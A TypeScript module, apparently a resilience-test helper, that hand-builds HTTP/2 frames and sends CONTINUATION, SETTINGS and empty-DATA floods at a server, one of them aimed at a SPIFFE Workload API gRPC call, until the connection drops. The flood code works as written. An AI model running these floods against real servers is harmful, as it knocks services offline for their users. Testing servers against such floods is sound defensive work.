import type { Socket } from 'node:net';

/** What an HTTP/2 client begins with. */
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const DATA = 0;
const HEADERS = 1;
const SETTINGS = 4;
const CONTINUATION = 9;
const END_HEADERS = 4;
const FRAMES_AT_ONCE = 100;

/** A flood: frames that come once, and frames that never stop coming. */
export interface FrameFlood {
  readonly first: readonly Buffer[];
  readonly then: Buffer;
}

/** Frames that cost their sender nothing, by what they are. */
export const FLOODS: ReadonlyMap<string, FrameFlood> = new Map([
  [
    'CONTINUATION without end',
    {
      first: [frame(HEADERS, 0, 1, field(':method', 'POST'))],
      then: frame(CONTINUATION, 0, 1, field('x', 'y')),
    },
  ],
  ['SETTINGS', { first: [], then: frame(SETTINGS, 0, 0, Buffer.alloc(0)) }],
  [
    'DATA of nothing',
    {
      first: [frame(HEADERS, END_HEADERS, 1, callFields('/SpiffeWorkloadAPI/FetchX509SVID'))],
      then: frame(DATA, 0, 1, Buffer.alloc(0)),
    },
  ],
]);

/** Sends a flood until the other side has had enough. @returns how many frames were sent; all of `most` when it never had. */
export async function flood(socket: Socket, { first, then }: FrameFlood, most: number): Promise<number> {
  socket.on('error', () => undefined);
  socket.resume();
  socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0)), ...first]));
  const frames = Buffer.concat(Array<Buffer>(FRAMES_AT_ONCE).fill(then));
  let sent = 0;
  while (socket.writable && sent < most) {
    sent += FRAMES_AT_ONCE;
    // What was written is gone before the next is: the count is then about what was read.
    await new Promise<void>((resolve) => socket.write(frames, () => resolve()));
    // And the end of the connection, when it has come, is seen.
    await new Promise<void>((resolve) => setImmediate(resolve));
  }
  socket.destroy();
  return sent;
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

function callFields(path: string): Buffer {
  const fields = [
    [':method', 'POST'],
    [':scheme', 'http'],
    [':path', path],
    [':authority', 'x'],
    ['content-type', 'application/grpc'],
    ['te', 'trailers'],
    ['workload.spiffe.io', 'true'],
  ] as const;
  return Buffer.concat(fields.map(([name, value]) => field(name, value)));
}

/** A header field spelt out, without compression. */
function field(name: string, value: string): Buffer {
  const parts = [name, value].map((text) => Buffer.concat([Buffer.from([text.length]), Buffer.from(text)]));
  return Buffer.concat([Buffer.from([0]), ...parts]);
}
